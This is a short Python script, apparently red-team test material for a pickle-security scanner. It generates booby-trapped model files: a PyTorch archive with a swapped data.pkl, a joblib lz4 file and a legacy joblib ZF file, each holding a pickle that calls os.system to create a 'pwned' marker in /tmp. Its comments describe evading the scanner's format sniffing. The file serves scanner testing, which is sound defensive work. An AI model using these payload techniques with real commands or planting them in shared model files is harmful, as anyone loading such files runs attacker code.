import torch, zipfile, io, pickle, joblib, lz4.frame, zlib, numpy as np
def p0(name):
    return b"cos\nsystem\n(S'touch /tmp/rt15/pwned_%s'\ntR." % name.encode()
# torch zip whose data.pkl begins with NEWTRUE,POP (outside the sniff set)
buf = io.BytesIO(); torch.save({"w": torch.zeros(2)}, buf)
zin = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
with zipfile.ZipFile("fn_torchzip_sniff.pt", "w", zipfile.ZIP_STORED) as zout:
    for i in zin.infolist():
        d = zin.read(i.filename)
        if i.filename.endswith("data.pkl"):
            d = b"\x880" + p0("torchzip_sniff")
        zout.writestr(i.filename, d)
# joblib lz4
class P:
    def __reduce__(self):
        import os; return (os.system, ("touch /tmp/rt15/pwned_joblib_lz4",))
joblib.dump(P(), "fn_joblib_lz4.joblib", compress="lz4")
# joblib legacy ZF format: 'ZF0x' + hex length padded + zlib(pickle)
raw = p0("joblib_zf")
hdr = b"ZF" + ("0x%x" % len(raw)).encode().ljust(19 - 2, b" ")   # joblib _ZFILE_PREFIX + _MAX_LEN
open("fn_joblib_zf.pkl","wb").write(hdr + zlib.compress(raw))
